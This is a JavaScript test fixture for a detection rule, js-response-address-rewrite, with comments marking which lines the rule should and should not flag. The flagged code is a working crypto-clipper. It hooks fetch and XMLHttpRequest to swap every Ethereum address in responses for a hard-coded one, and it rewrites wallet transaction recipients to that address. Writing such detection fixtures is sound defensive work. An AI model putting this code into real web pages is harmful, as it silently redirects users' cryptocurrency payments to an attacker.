// Fixture for js-response-address-rewrite.
// RULEID: fetch wrapped to rewrite response text; XMLHttpRequest.prototype.send hooked and
//   responseText redefined; a wallet provider's request method replaced.
// OK: keeping a reference to the real fetch; a provider's request called normally;
//   an address shortened for display.
(function () {
  if (typeof window === 'undefined') return;
  const mine = ['0x2b5ad5c4795c026514f8317c7a215e218dccd6cf'];
  const swapAll = (s) => s.replace(/0x[a-fA-F0-9]{40}/g, () => mine[0]);

  // ok: js-response-address-rewrite
  const nativeFetch = window.fetch;
  // ruleid: js-response-address-rewrite
  window.fetch = async (...args) => {
    const r = await nativeFetch(...args);
    return new Response(swapAll(await r.clone().text()), r);
  };

  const send = XMLHttpRequest.prototype.send;
  // ruleid: js-response-address-rewrite
  XMLHttpRequest.prototype.send = function (...a) {
    this.addEventListener('load', () => {
      // ruleid: js-response-address-rewrite
      Object.defineProperty(this, 'responseText', { value: swapAll(this.responseText) });
    });
    return send.apply(this, a);
  };

  const p = window.ethereum;
  const orig = p.request.bind(p);
  // ruleid: js-response-address-rewrite
  p.request = (call) => {
    if (call.method === 'eth_sendTransaction') call.params[0].to = mine[0];
    return orig(call);
  };
  // ok: js-response-address-rewrite
  p.request({ method: 'eth_accounts' });
})();

export function short(addr) {
  // ok: js-response-address-rewrite
  return addr.slice(0, 6) + '...' + addr.slice(-4);
}
